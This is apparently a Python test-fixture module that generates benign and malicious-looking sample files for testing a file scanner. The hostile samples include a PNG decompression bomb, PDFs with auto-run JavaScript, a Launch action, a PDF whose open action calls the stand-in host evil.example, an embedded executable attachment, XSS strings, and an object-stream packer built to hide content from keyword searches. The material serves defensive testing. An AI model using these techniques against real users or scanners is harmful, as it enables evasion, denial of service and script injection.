"""Files as they are, and as somebody makes them who means harm."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

JAVASCRIPT = "app.alert('hello');"


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **how: object) -> bytes:
    """A small picture."""
    image = Image.radial_gradient("L").transform(size, Image.Transform.AFFINE, (4, 0, 0, 0, 4, 0)).convert(mode)
    file = BytesIO()
    image.save(file, kind, **how)
    return file.getvalue()


def archive() -> bytes:
    """A ZIP file."""
    file = BytesIO()
    with ZipFile(file, "w") as opened:
        opened.writestr("run.sh", "echo gotcha")
    return file.getvalue()


def two_pictures_in_one() -> bytes:
    """A JPEG as telephones write it: behind the picture a second one, announced in the first (Multi-Picture Format)."""
    file = BytesIO()
    one, two = Image.new("RGB", (64, 48), "red"), Image.new("RGB", (32, 24), "grey")
    one.save(file, "MPO", save_all=True, append_images=[two])
    return file.getvalue()


def animation(kind: str) -> bytes:
    """A picture that moves."""
    file = BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(file, kind, save_all=True, append_images=frames[1:])
    return file.getvalue()


def bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few kilobytes that would be gigabytes when decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(1 << 20), 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def document(change: Callable[[PdfWriter], object] = lambda _: None, pages: int = 1) -> bytes:
    """A PDF file."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 100)
    change(writer)
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def with_script(writer: PdfWriter) -> None:
    """It does something when it is opened."""
    script = _action(S="/JavaScript", JS=JAVASCRIPT)
    names = ArrayObject([TextStringObject("start"), script])
    scripts = DictionaryObject({NameObject("/Names"): names})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def with_file_inside(writer: PdfWriter) -> None:
    """It holds another file."""
    writer.add_attachment("invoice.exe", b"MZ")


def with_password(writer: PdfWriter) -> None:
    """Nobody can look into it."""
    writer.encrypt("secret", algorithm="RC4-128")


def _action(**entries: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in entries.items()
        }
    )


def launching(writer: PdfWriter) -> None:
    """It starts a program when it is opened."""
    writer.root_object[NameObject("/OpenAction")] = _action(S="/Launch", F="calc.exe")


def opening_an_address(writer: PdfWriter) -> None:
    """It calls home when it is opened."""
    writer.root_object[NameObject("/OpenAction")] = _action(S="/URI", URI="http://evil.example")


def opening_at_its_first_page(writer: PdfWriter) -> None:
    """What many programs write, and harmless."""
    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/XYZ"), NumberObject(0), NumberObject(0)])
    writer.root_object[NameObject("/OpenAction")] = place


def acting_when_its_page_is_seen(writer: PdfWriter) -> None:
    """It does something when a page comes into view."""
    actions = DictionaryObject({NameObject("/O"): _action(S="/SubmitForm", F="http://evil.example")})
    writer.pages[0][NameObject("/AA")] = actions


def with_script_in_a_link(writer: PdfWriter) -> None:
    """It does something when somebody clicks."""
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): _action(S="/JavaScript", JS=JAVASCRIPT),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])


def in_object_streams(content: bytes, hidden: bytes = b"") -> bytes:
    """The same PDF with its objects packed and compressed, where no search for words finds anything.

    `hidden` is an object beside them that the table of objects does not name.
    """
    from pypdf import PdfReader  # noqa: PLC0415

    reader = PdfReader(BytesIO(content))
    numbers = sorted(reader.xref[0])
    bodies: list[bytes] = []
    for number in numbers:
        file = BytesIO()
        found = reader.get_object(number)
        assert found is not None
        found.write_to_stream(file)
        bodies.append(file.getvalue())
    index, at = b"", 0
    for number, body in zip(numbers, bodies, strict=True):
        index += b"%d %d " % (number, at)
        at += len(body) + 1
    if hidden:
        index += b"999 %d " % at
        bodies.append(hidden)
    packed = zlib.compress(index + b" ".join(bodies))
    holder = max(numbers) + 1
    root = reader.trailer.raw_get("/Root").idnum
    out = b"%PDF-1.5\n"
    begin = len(out)
    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        holder,
        len(bodies),
        len(index),
        len(packed),
    )
    out += packed + b"\nendstream endobj\n"
    table_at = len(out)
    rows = b"\x00\x00\x00\x00\x00"
    for number in range(1, holder):
        place = numbers.index(number) if number in numbers else None
        rows += b"\x00\x00\x00\x00\x00" if place is None else b"\x02" + struct.pack(">HH", holder, place)
    rows += b"\x01" + struct.pack(">HH", begin, 0) + b"\x01" + struct.pack(">HH", table_at, 0)
    table = zlib.compress(rows)
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 2]/Root %d 0 R/Filter/FlateDecode/Length %d>>stream\n" % (
        holder + 1,
        holder + 2,
        root,
        len(table),
    )
    return out + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table_at


ACTION = b"<</S/JavaScript/JS(app.alert(1))>>"
PAGE = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
